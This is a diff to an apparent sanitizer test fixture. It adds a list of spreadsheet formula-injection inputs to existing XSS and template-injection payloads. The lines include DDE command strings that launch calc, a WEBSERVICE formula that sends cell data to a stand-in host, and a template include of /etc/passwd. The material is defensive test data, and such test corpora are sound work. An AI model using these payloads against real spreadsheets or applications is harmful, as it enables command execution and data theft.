@@ -1,4 +1,4 @@
-"""Sixty texts that try to become markup, an address, a style or a template; each would set window.hit if it ran."""
+"""Sixty texts that try to become markup, an address, a style or a template; each would set window.hit if it ran. And formulas."""
 
 _RUN = "window.hit=1"
 PAYLOADS = (
@@ -25,4 +25,14 @@ PAYLOADS = (
     f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
     f"\ufeff<script>{_RUN}</script>", f"<\u200bscript>{_RUN}</script>", "{{ 7*7 }}{% include '/etc/passwd' %}",
     "{{ ''.__class__.__mro__ }}", f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
+)  # fmt: skip
+
+# Texts that a spreadsheet runs: by sign, behind what it drops (blanks, marks, a line's end), in other widths; and text in full.
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
+    "=HYPERLINK(\"http://x.test\",\"click\")", "=WEBSERVICE(\"http://x.test/\"&A1)", "=IMPORTXML(\"http://x.test\",\"//a\")",
+    "=IMPORTDATA(\"http://x.test\")", "=IMAGE(\"http://x.test\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=INDIRECT(\"A1\")",
+    "=1+1;1", "=\"a\"&\"b\"", "=A1", "=-1", "=+1", "+@SUM(1+1)", "--1", "+-1", "-A1", "+A1*2", "@A1",
+    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "\xa0=1+1",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "%0A=1+1", "\"=1+1", "'=1+1", "a\",=1+1,\"b", "a\n=1+1", "-2.1-2.1",
 )  # fmt: skip
